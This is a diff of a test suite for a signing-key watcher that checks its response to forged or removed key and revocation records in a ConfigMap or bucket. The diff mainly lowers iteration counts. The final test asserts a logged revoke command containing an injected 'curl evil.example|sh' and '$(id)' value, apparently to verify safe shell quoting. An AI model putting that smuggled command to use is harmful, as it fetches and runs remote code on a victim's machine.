@@ -29,7 +29,7 @@ suite('whoever may write the ConfigMap', () => {
     assert.deepEqual(reasons(state), ['RECORDED_KEY_UNKNOWN'])
     assert.match(state.status.alarms[0]?.message ?? '', new RegExp(`^key "${attacker.kid}" is remembered, but neither`))
     forge(watch, { ...watch.remembered(), ...entryOf(await generateSigningKey()) })
-    await watch.look(25)
+    await watch.look(3)
     assert.deepEqual(watch.published(), own)
   })
 
@@ -53,7 +53,7 @@ suite('whoever may write the ConfigMap', () => {
       const state = await watch.look()
       assert.deepEqual(reasons(state), ['REVOCATION_REMOVED'], what)
       assert.equal(watch.remembered()[name], before[name], what)
-      await watch.look(25)
+      await watch.look(3)
       assert.deepEqual(watch.published(), sorted(keys.current), what)
     }
     assert.match(
@@ -113,7 +113,7 @@ suite('whoever may write the ConfigMap', () => {
     const { keys } = watch.sandbox.cluster
     const old = await watch.swapKey()
     forge(watch, { ...watch.remembered(), ...entryOf(old) })
-    await watch.look(41)
+    await watch.look(5)
     const { lastSeenAt }: { lastSeenAt: string } = JSON.parse(watch.remembered()[`key.${digestOf(old.kid)}`] ?? '')
     assert.ok(new Date(lastSeenAt) <= watch.context.now(), lastSeenAt)
     watch.sandbox.clock.advance('2 d')
@@ -131,7 +131,7 @@ suite('whoever may write the ConfigMap', () => {
     const unrevoked = Object.entries(watch.remembered()).filter(([name]) => !name.startsWith('revoked.'))
     forge(watch, { ...Object.fromEntries(unrevoked), ...entryOf(leaked) })
     watch.restart()
-    await watch.look(25)
+    await watch.look(3)
     assert.deepEqual(watch.published(), sorted(keys.current))
   })
 })
@@ -148,7 +148,7 @@ suite('whoever may write the bucket', () => {
       contentType: 'application/jwk-set+json',
       body: JSON.stringify({ keys: [...keys, { ...publicKey.export({ format: 'jwk' }), kid, alg: 'RS256' }] }),
     })
-    await watch.look(25)
+    await watch.look(3)
     const line = watch.logged.find((one) => one.includes('PUBLISHED_KEY_UNKNOWN')) ?? ''
     assert.ok(line.includes(`revoke --to TARGET -- 'x; curl evil.example|sh; '\\''$(id)'\\''\n', and see`), line)
   })
